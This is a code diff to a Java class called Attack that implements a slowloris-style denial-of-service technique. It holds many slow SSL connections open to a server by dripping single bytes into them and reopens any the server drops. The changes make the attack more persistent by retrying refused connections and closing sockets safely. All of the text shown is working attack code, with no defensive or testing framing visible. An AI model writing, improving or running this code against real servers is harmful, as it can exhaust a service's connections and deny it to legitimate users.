@@ -67,9 +67,10 @@ final class Attack implements AutoCloseable {
     }
 
     /** Opens slow connections and keeps them alive, opening anew what the server closes, until this is closed. */
-    private void drip(int connections) throws IOException {
+    private void drip(int connections) {
         for (int i = 0; i < connections; i++) {
-            slow.add(begin(i));
+            slow.add(null);
+            reopen(i);
         }
         dripping = new Thread(this::keepDripping, "dripping");
         dripping.start();
@@ -78,13 +79,21 @@ final class Attack implements AutoCloseable {
     private void keepDripping() {
         while (!over) {
             for (int i = 0; i < slow.size() && !over; i++) {
-                try {
-                    slow.get(i).getOutputStream().write(' ');
-                } catch (IOException closed) {
-                    reopen(i);
-                }
+                dripInto(i);
             }
             LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1));
+        }
+    }
+
+    private void dripInto(int i) {
+        if (slow.get(i) == null) {
+            reopen(i);
+            return;
+        }
+        try {
+            slow.get(i).getOutputStream().write(' ');
+        } catch (IOException closed) {
+            reopen(i);
         }
     }
 
@@ -92,7 +101,7 @@ final class Attack implements AutoCloseable {
         try {
             slow.set(i, begin(i));
         } catch (IOException refused) {
-            // next time
+            slow.set(i, null);
         }
     }
 
@@ -151,11 +160,17 @@ final class Attack implements AutoCloseable {
             LockSupport.unpark(dripping);
         }
         for (SSLSocket socket : slow) {
-            try {
+            close(socket);
+        }
+    }
+
+    private static void close(SSLSocket socket) {
+        try {
+            if (socket != null) {
                 socket.close();
-            } catch (IOException gone) {
-                // it is what was wanted
             }
+        } catch (IOException gone) {
+            // it is what was wanted
         }
     }
 
